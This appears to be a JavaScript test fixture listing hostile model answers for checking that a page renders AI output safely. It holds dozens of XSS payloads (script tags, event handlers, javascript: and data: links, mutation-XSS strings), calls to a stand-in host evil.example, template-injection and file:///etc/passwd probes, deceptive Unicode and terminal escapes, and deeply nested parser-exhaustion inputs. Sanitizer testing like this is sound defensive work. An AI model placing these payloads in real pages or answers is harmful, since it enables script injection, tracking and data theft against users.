// Answers of a model that means harm: each is `[words, text]`. The words must be readable on the page, as text.
//
// `evil.example` is a host that no page may ask; `boom()` stands for a script that must not run.

const many = (count, text) => text.repeat(count);

// Short ones, which are also shown while they are written.
export const HOSTILE = [
  // Scripts, in every spelling.
  ['boom(1)', '<script>boom(1)</script>'],
  ['boom(2)', '<SCRIPT SRC=https://evil.example/x.js>boom(2)</SCRIPT>'],
  ['boom(3)', '<scr<script>ipt>boom(3)</scr</script>ipt>'],
  ['boom(4)', '<script\n>boom(4)</script\n>'],
  ['boom(5)', '</div></article></main><script type="module">boom(5)</script>'],
  ['boom(6)', '<script/src="data:text/javascript,boom(6)"></script>'],
  // Handlers of events.
  ['boom(7)', '<img src=x onerror=boom(7)>'],
  ['boom(8)', '<svg/onload=boom(8)>'],
  ['boom(9)', '<details open ontoggle=boom(9)>open</details>'],
  ['boom(10)', '<input autofocus onfocus=boom(10)>'],
  ['boom(11)', '<body onload=boom(11)>'],
  ['boom(12)', '<p style="animation:x" onanimationstart="boom(12)">x</p>'],
  ['boom(13)', '" onmouseover="boom(13)" x="'],
  ["boom(14)", "' onfocus='boom(14)' autofocus='"],
  ['boom(15)', '<video><source onerror="boom(15)"></video>'],
  // Links and pictures of Markdown.
  ['javascript:boom(16)', '[go](javascript:boom(16))'],
  ['boom(17)', '[go](JaVaScRiPt&colon;boom(17))'],
  ['boom(18)', '[go](<java\tscript:boom(18)>)'],
  ['data:text/html', '[go](data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=)'],
  ['vbscript:boom(20)', '[go](vbscript:boom(20))'],
  ['javascript:boom(21)', '[go][ref]\n\n[ref]: javascript:boom(21) "t"'],
  ['javascript:boom(22)', '<javascript:boom(22)>'],
  ['evil.example/23', '<https://evil.example/23>'],
  ['evil.example/24', '![pixel](https://evil.example/24.png)'],
  ['evil.example/25', '![pixel][p]\n\n[p]: https://evil.example/25.png'],
  ['evil.example/26', '[![in](https://evil.example/26.png)](https://evil.example/26)'],
  ['evil.example/27', '//evil.example/27 and https://evil.example/27'],
  ['boom(28)', '![x](x" onerror="boom(28))'],
  ['file:///etc/passwd', '[go](file:///etc/passwd)'],
  // Elements that load, move or cover the page.
  ['evil.example/30', '<img src="https://evil.example/30.png">'],
  ['evil.example/31', '<link rel=stylesheet href="https://evil.example/31.css">'],
  ['evil.example/32', '<style>@import "https://evil.example/32.css"; body { background: url(https://evil.example/32.png) }</style>'],
  ['evil.example/33', '<div style="background:url(https://evil.example/33.png);position:fixed;inset:0">cover</div>'],
  ['evil.example/34', '<base href="https://evil.example/34/">'],
  ['evil.example/35', '<meta http-equiv="refresh" content="0;url=https://evil.example/35">'],
  ['evil.example/36', '<iframe src="https://evil.example/36"></iframe>'],
  ['boom(37)', '<iframe srcdoc="<script>parent.boom(37)</script>"></iframe>'],
  ['evil.example/38', '<object data="https://evil.example/38"></object><embed src="https://evil.example/38">'],
  ['evil.example/39', '<form action="https://evil.example/39"><button>Synthesize now</button></form>'],
  ['evil.example/40', '<a href="https://evil.example/40" ping="https://evil.example/40" target=_blank>Stop</a>'],
  ['evil.example/41', '<audio src="https://evil.example/41" autoplay></audio><portal src="https://evil.example/41">'],
  // Drawings and formulas.
  ['boom(42)', '<svg><script>boom(42)</script><a xlink:href="javascript:boom(42)"><text y=20>x</text></a></svg>'],
  ['boom(43)', '<math><a xlink:href="javascript:boom(43)">x</a><maction actiontype="statusline#http://evil.example">y</maction></math>'],
  ['boom(44)', '<svg><animate onbegin=boom(44) attributeName=x dur=1s>'],
  ['evil.example/45', '<svg><use href="https://evil.example/45.svg#x"/><image href="https://evil.example/45.png"/></svg>'],
  // Texts that change their meaning when they are parsed a second time.
  ['boom(46)', '<noscript><p title="</noscript><img src=x onerror=boom(46)>">'],
  ['boom(47)', '<svg></p><style><a id="</style><img src=1 onerror=boom(47)>">'],
  ['boom(48)', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=boom(48)&gt;">'],
  ['boom(49)', '<!--><img src=x onerror=boom(49)>-->'],
  ['boom(50)', '<![CDATA[<img src=x onerror=boom(50)>]]>'],
  ['boom(51)', '<template><script>boom(51)</script></template><textarea></textarea><script>boom(51)</script>'],
  ['boom(52)', '```html"><img src=x onerror=boom(52)>\ncode of 52\n```\nboom(52)'],
  ['boom(53)', '| a | <img src=x onerror=boom(53)> |\n|---|---|\n| `</td><script>` | boom(53) |'],
  // Names that a script of the page might look up.
  ['answer-title', '<form id="answer-title" name="seat-1"><input name=innerHTML id=announcer></form>'],
  // Other languages' templates.
  ['{{7+7}}', '{{7+7}} ${7+7} #{7+7} <%= 7+7 %> {%raw%} {% include "/etc/passwd" %}'],
  // Letters that lie: directions, invisible ones, those of terminals.
  ['bidi', 'bidi \u202Egnirts\u202C \u2066isolate\u2069 \u061C\u200F end'],
  ['zero', 'zero\u200B\u200C\u200D\uFEFF width \u{E0041}\u{E0042}\u{E0043} tags \u2028\u2029 end'],
  ['nul', 'nul \u0000 \u0001 \u001B[31mred\u001B[0m \u001B]8;;https://evil.example/58\u0007link\u001B]8;;\u0007 \u009B31m end'],
  ['entities', 'entities &lt;script&gt;boom(59)&lt;/script&gt; &#x3C;img src=x onerror=boom(59)&#x3E; &NewLine; &#0; &#xD800; \\uD800 end'],
  ['zalgo', `zalgo ${'Z' + many(200, '\u0301')} end`],
];

// Large ones, which a page must bound: shown when they are whole.
export const LARGE = [
  ['deep quotes', `${many(5_000, '> ')}deep quotes`],
  ['deep lists', `${many(5_000, '- ')}deep lists`],
  ['deep brackets', `${many(30_000, '[')}deep brackets${many(30_000, ']')}`],
  ['deep emphasis', `${many(20_000, '*a ')}deep emphasis`],
  ['deep links', `${many(10_000, '[a](')}deep links`],
  ['deep elements', `${many(5_000, '<div><b>')}deep elements`],
  ['many columns', `|${many(1_000, 'many columns|')}\n|${many(1_000, '-|')}\n|${many(1_000, 'x|')}`],
  ['one line', `one line ${many(150_000, 'x')}`],
];
